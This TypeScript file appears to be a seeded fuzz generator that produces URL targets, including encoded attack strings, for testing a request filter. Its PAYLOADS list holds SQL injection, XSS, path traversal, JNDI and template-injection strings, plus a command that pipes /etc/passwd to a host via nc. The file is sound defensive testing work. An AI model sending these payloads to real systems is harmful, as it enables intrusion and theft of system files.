// A seeded generator of targets as they could come in `:path`: plausible ones, attacks in several encodings, soups of
// the bytes the law gives a meaning, raw bytes, the edges of the caps. Equal seeds give equal targets. Targets are
// strings of bytes (latin1).

import * as limits from "../../filter/core/limits.ts";
import { Prng } from "./prng.ts";

const WORDS = "cart checkout api v1 v2 users orders items search product static img health .well-known a b".split(" ");
const NAMES = "id q page sort lang user[name] filter.x session _t X-Y callback odd!name a%20b".split(" ");
const VALUES = (
  "1 true en-GB blue+shirt caf%C3%A9 2026-11-24T10:00:00Z http://x/y/z 9f86d081884c7d65 " +
  "%7B%22a%22%3A1%7D \xd0\xbf\xd0\xb8"
).split(" ");
const PAYLOADS = [
  "' OR 1=1 -- ",
  '"><script>alert(`x`)</script>',
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "; cat /etc/passwd | nc 10.0.0.1 4444",
  "UNION/**/SELECT/*x*/a,b FROM t#",
  `\${jndi:ldap://x.y/z}`,
  "{{7*7}}[0]$(id)",
  "!(objectClass=*)~^",
  "\xc0\xae\xc0\xae/\xff\xfe\0.jpg",
  "\xe4\xb8\xad\xe6\x96\x87",
  "A".repeat(90),
  "----/*/*!50000--*/",
  "a==b=c",
];
const SOUP = [
  ..."//??&&==%%2255uU00+..;;::##--**''\"`<>()[]{}$|\\!^~_ aAzZ09fF@,\0\n\x7f\x80\xbf\xc0\xc1\xc2\xe9\xf4\xf5\xff",
  "\xc3\xa9",
  "\xe4\xb8\xad",
  "\xf0\x9f\x98\x80",
  "\xe4\xb8",
  "%D0%9F",
];
const EDGES = [
  "",
  "*",
  "/",
  "//",
  "?",
  "/?",
  "/?&",
  "?=",
  "/?a",
  "://",
  "x://",
  "http://h",
  "http://h/p?q=1",
  "a?b://c/d",
];

const hex = (byte: number) => byte.toString(16).padStart(2, "0");

/** Escapes every byte, or only those that must be; `%XX` or `%u00XX`. */
function escaped(prng: Prng, text: string): string {
  const everything = prng.oneIn(3);
  const prefix = prng.oneIn(8) ? prng.pick(["%u00", "%U00"]) : "%";
  const upper = prng.oneIn(2);
  return [...text]
    .map((character) => {
      if (!everything && /[A-Za-z0-9._~-]/.test(character)) return character;
      const digits = hex(character.charCodeAt(0));
      return prefix + (upper ? digits.toUpperCase() : digits);
    })
    .join("");
}

function encoded(prng: Prng, text: string): string {
  let out = text;
  for (let times = prng.below(4); times > 0; times--) out = escaped(prng, out);
  return out;
}

function id(prng: Prng): string {
  const digits = [...prng.bytes(prng.between(1, 16))].map(hex).join("");
  return prng.oneIn(2) ? String(prng.below(1e6)) : digits;
}

function plausible(prng: Prng): string {
  const segments = Array.from({ length: prng.between(1, 5) }, () => (prng.oneIn(4) ? id(prng) : prng.pick(WORDS)));
  const pieces = Array.from({ length: prng.below(5) }, () => {
    const value = prng.oneIn(3) ? id(prng) : prng.pick(VALUES);
    return prng.oneIn(8) ? prng.pick(NAMES) : `${prng.pick(NAMES)}=${value}`;
  });
  return `/${segments.join("/")}${pieces.length > 0 ? `?${pieces.join("&")}` : ""}`;
}

function attack(prng: Prng): string {
  const payload = encoded(prng, prng.pick(PAYLOADS));
  const base = plausible(prng);
  switch (prng.below(4)) {
    case 0:
      return `${base}${base.includes("?") ? "&" : "?"}q=${payload}`;
    case 1:
      return `/${payload}${base}`;
    case 2:
      return `${base}/${payload}`;
    default:
      return `/x?${payload}=1&${payload}`;
  }
}

function soup(prng: Prng): string {
  return Array.from({ length: prng.below(60) }, () => prng.pick(SOUP)).join("");
}

function raw(prng: Prng): string {
  return Buffer.from(prng.bytes(prng.below(70))).toString("latin1");
}

function absolute(prng: Prng): string {
  return prng.pick(["http://", "https://shop", "ws://h:80", "a://b?c", "x"]) + prng.pick([plausible, soup])(prng);
}

/** Path and query around the caps, made of short pieces, so that a cut can fall into an escape. */
export function longTarget(prng: Prng): string {
  const filling = prng.pick(["a", "%41", "%2541", "../", "/seg", "&n=v", "%u0041", "\xe9", "=", "/*-"]);
  const fill = (length: number) => filling.repeat(Math.ceil(length / filling.length)).slice(0, length);
  const pathLimit = limits.PATH_HEAD + limits.PATH_TAIL;
  const queryLimit = limits.QUERY_HEAD + limits.QUERY_TAIL;
  const around = (limit: number) => prng.pick([0, limit - 1, limit, limit + 1, limit + 2, limit + prng.below(3000)]);
  const path = `/${fill(around(pathLimit)).replaceAll("?", "")}${soup(prng).replaceAll("?", "")}`;
  return prng.oneIn(3) ? path : `${path}?${fill(around(queryLimit))}${soup(prng)}`;
}

/** One short target. */
export function shortTarget(prng: Prng): string {
  const kind = prng.below(100);
  if (kind < 35) return plausible(prng);
  if (kind < 65) return attack(prng);
  if (kind < 85) return soup(prng);
  if (kind < 92) return raw(prng);
  if (kind < 96) return absolute(prng);
  if (kind < 98) return prng.pick(EDGES);
  return prng.pick(EDGES) + soup(prng);
}

/** `count` targets; one in `longEvery` is long. */
export function* targets(seed: number, count: number, longEvery: number): Generator<string> {
  const prng = new Prng(seed);
  for (let i = 1; i <= count; i++) yield i % longEvery === 0 ? longTarget(prng) : shortTarget(prng);
}

const METHODS = ["GET", "POST", "PUT", "DELETE", "get", "", "PROPFIND", "A".repeat(16), "A".repeat(17), "M\xe9"];

export function method(prng: Prng): string {
  return prng.pick(METHODS);
}
